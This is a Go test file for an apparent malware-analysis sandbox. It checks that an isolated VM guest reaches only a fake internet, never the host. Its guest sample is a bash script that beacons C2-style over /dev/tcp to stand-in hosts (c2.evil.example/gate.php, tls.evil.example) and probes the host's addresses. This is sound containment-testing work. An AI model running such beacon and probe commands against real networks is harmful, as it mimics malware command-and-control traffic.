package daemon

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/scalemalnet/scalemalnet/internal/vmtest"
	"github.com/scalemalnet/scalemalnet/orchestrator/fakenet"
	"github.com/scalemalnet/scalemalnet/orchestrator/jobs"
	"github.com/scalemalnet/scalemalnet/orchestrator/report"
	"github.com/scalemalnet/scalemalnet/orchestrator/vm"
)

// netProbe is the guest sample of TestNetworkIsolated, a bash script (bash
// starts in a fraction of python3's time under TCG): it resolves a name
// (getent, glibc's resolver), makes an HTTP request to it and sends a TLS
// ClientHello (made by crypto/tls, with its SNI) through bash's /dev/tcp,
// then tries to reach the host through every address it could have: the
// user-mode gateway (the host's loopback in user mode), the host's own
// addresses, its own 127.0.0.1 and a public address. Each probe sends an
// HTTP request and prints the first line and the body of what answered.
func netProbe(t *testing.T) string {
	a, b := net.Pipe()
	defer a.Close()
	defer b.Close()
	go tls.Client(a, &tls.Config{ServerName: "tls.evil.example"}).Handshake()
	b.SetDeadline(time.Now().Add(10 * time.Second))
	buf := make([]byte, 4096)
	n, err := b.Read(buf)
	if err != nil {
		t.Fatal(err)
	}
	var hello strings.Builder
	for _, c := range buf[:n] {
		fmt.Fprintf(&hello, "\\x%02x", c)
	}
	return `#!/bin/bash
echo "start"
echo "resolved $(getent ahostsv4 c2.evil.example | head -n1 | cut -d' ' -f1)"
if exec 3<>/dev/tcp/c2.evil.example/80; then
  printf 'GET /gate.php?id=42 HTTP/1.1\r\nHost: c2.evil.example\r\nUser-Agent: smn-probe\r\n\r\n' >&3
  r=$(timeout 15 cat <&3 | tr -d '\r')
  echo "http $(echo "$r" | head -n1) | $(echo "$r" | tail -n1)"
  exec 3>&-
fi
if exec 4<>/dev/tcp/tls.evil.example/443; then
  printf '` + hello.String() + `' >&4
  echo "tls answer bytes: $(timeout 15 cat <&4 | wc -c)"
  exec 4>&-
fi
port=$1; shift
for h in "$@"; do
  if exec 5<>/dev/tcp/$h/$port; then
    printf 'GET /probe HTTP/1.0\r\nHost: %s\r\n\r\n' "$h" >&5
    r=$(timeout 10 cat <&5 | tr -d '\r')
    echo "probe $h answered: $(echo "$r" | head -n1) | $(echo "$r" | tail -n1)"
    exec 5>&-
  else
    echo "probe $h failed"
  fi
done
echo "done"
`
}

// TestNetworkIsolated: a job on the fake internet resolves a name, makes an
// HTTP request and a TLS connection; the report lists the DNS query, the
// request (method, host, path), the TLS server name and the connections,
// and the pcap artifact holds the packets. Every attempt to reach the host
// (the user-mode gateway 10.0.2.2, the host's addresses, with a listener
// on all of them) reaches only the responder: the host listener hears
// nothing. A public address also reaches only the responder.
func TestNetworkIsolated(t *testing.T) {
	imageDir, _ := vmtest.Need(t)
	ln, err := net.Listen("tcp4", "0.0.0.0:0") // every host address, loopback included
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	heard := make(chan string, 16)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			heard <- c.RemoteAddr().String()
			c.Write([]byte("HTTP/1.0 200 OK\r\n\r\nhello from the host\n"))
			c.Close()
		}
	}()
	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
	probes := []string{vm.UserGateway, "127.0.0.1", "192.0.2.1"} // gateway, the guest's own loopback, a public (TEST-NET) address
	if addrs, err := net.InterfaceAddrs(); err == nil {
		for _, a := range addrs {
			if ip, ok := a.(*net.IPNet); ok && ip.IP.To4() != nil && !ip.IP.IsLoopback() {
				probes = append(probes, ip.IP.String()) // the host's own addresses
			}
		}
	}
	sample := filepath.Join(t.TempDir(), "netprobe.sh")
	if err := os.WriteFile(sample, []byte(netProbe(t)), 0o755); err != nil {
		t.Fatal(err)
	}

	td := startDaemonWith(t, imageDir, 0, func(c *Config) {
		c.Pool = []SlotConfig{{Name: "iso0", Network: vm.NetworkIsolated}}
	})
	job, rep := td.analyse(t, sample, jobs.Options{Timeout: 180 * time.Second, Window: time.Second, Network: jobs.NetworkIsolated, Args: append([]string{port}, probes...)})
	out := rep.Outcome.Output
	t.Logf("job %s on %s: machine %+v, outcome %+v, connect calls %+v\noutput:\n%s", job.ID, rep.Machine.Slot, rep.Machine, rep.Outcome, rep.Behavior.Connections, out)
	if rep.Machine.Network != "isolated" || rep.Machine.GuestAddr != vm.UserGuestAddr {
		t.Errorf("machine %+v", rep.Machine)
	}
	for _, want := range []string{
		"resolved 10.0.2.4\n",
		"http HTTP/1.1 200 OK | scalemalnet fake internet\n",
		"tls answer bytes: 0\n",    // no TLS server: the responder reads the hello and closes
		"probe 127.0.0.1 failed\n", // the guest's own loopback: nothing listens there
		"done\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q", want)
		}
	}
	for _, h := range probes {
		if h == "127.0.0.1" {
			continue
		}
		// Whatever the address, the fake internet answered, never the host.
		if want := "probe " + h + " answered: HTTP/1.1 200 OK | scalemalnet fake internet\n"; !strings.Contains(out, want) {
			t.Errorf("output lacks %q", want)
		}
	}
	if strings.Contains(out, "hello from the host") {
		t.Error("the guest reached the host's listener")
	}
	select {
	case from := <-heard:
		t.Fatalf("the host listener was reached from the isolated guest (peer %s)", from)
	default:
	}

	// The report's network section.
	n := rep.Network
	if n == nil {
		t.Fatal("report has no network section")
	}
	t.Logf("network: %d packets, %d bytes, dns %+v, http %+v, tls %+v, connections %+v, pcap %+v", n.Packets, n.Bytes, n.DNS, n.HTTP, n.TLS, n.Connections, n.Pcap)
	if !hasDNS(n, "c2.evil.example", "A", "10.0.2.4") || !hasDNS(n, "tls.evil.example", "A", "10.0.2.4") {
		t.Errorf("DNS %+v", n.DNS)
	}
	if !hasHTTP(n, report.HTTPRequest{Method: "GET", Host: "c2.evil.example", Path: "/gate.php?id=42", Dst: "10.0.2.4:80", UA: "smn-probe"}) {
		t.Errorf("HTTP %+v", n.HTTP)
	}
	if len(n.TLS) != 1 || n.TLS[0].SNI != "tls.evil.example" || n.TLS[0].Dst != "10.0.2.4:443" {
		t.Errorf("TLS %+v", n.TLS)
	}
	for _, h := range probes {
		if h != "127.0.0.1" && !hasConn(n, "tcp", h, port) {
			t.Errorf("connections lack tcp %s:%s: %+v", h, port, n.Connections)
		}
	}
	if hasConn(n, "tcp", "127.0.0.1", port) {
		t.Error("the guest's loopback connection reached the responder")
	}

	// The pcap, through the service (GET /jobs/{id}/pcap).
	rc, err := td.OpenPcap(context.Background(), job.ID)
	if err != nil {
		t.Fatal(err)
	}
	b, err := io.ReadAll(rc)
	rc.Close()
	if err != nil {
		t.Fatal(err)
	}
	pk, err := fakenet.ReadPcap(b)
	if err != nil {
		t.Fatalf("pcap: %v", err)
	}
	t.Logf("pcap: %d bytes, %d packets", len(b), len(pk))
	if len(pk) == 0 || len(pk) != n.Packets || n.Pcap == nil || n.Pcap.Size != int64(len(b)) {
		t.Errorf("pcap %d bytes, %d packets; report %+v", len(b), len(pk), n)
	}
	if !bytes.Contains(b, []byte("\x02c2\x04evil\x07example\x00")) || !bytes.Contains(b, []byte("GET /gate.php?id=42 HTTP/1.1")) || !bytes.Contains(b, []byte("tls.evil.example")) {
		t.Error("pcap lacks the DNS query, the HTTP request or the TLS hello")
	}
	var buf bytes.Buffer
	report.Render(&buf, rep)
	for _, want := range []string{"network: isolated (10.0.2.15)", "Network (isolated fake internet", "A     c2.evil.example -> 10.0.2.4", "GET http://c2.evil.example/gate.php?id=42"} {
		if !strings.Contains(buf.String(), want) {
			t.Errorf("rendered report lacks %q", want)
		}
	}
}

func hasDNS(n *report.Traffic, name, typ, answer string) bool {
	for _, q := range n.DNS {
		if q.Name == name && q.Type == typ && q.Answer == answer {
			return true
		}
	}
	return false
}

func hasHTTP(n *report.Traffic, want report.HTTPRequest) bool {
	for _, h := range n.HTTP {
		if h == want {
			return true
		}
	}
	return false
}

func hasConn(n *report.Traffic, proto, dst, port string) bool {
	for _, c := range n.Connections {
		if c.Proto == proto && c.Dst == dst && fmt.Sprint(c.Port) == port {
			return true
		}
	}
	return false
}
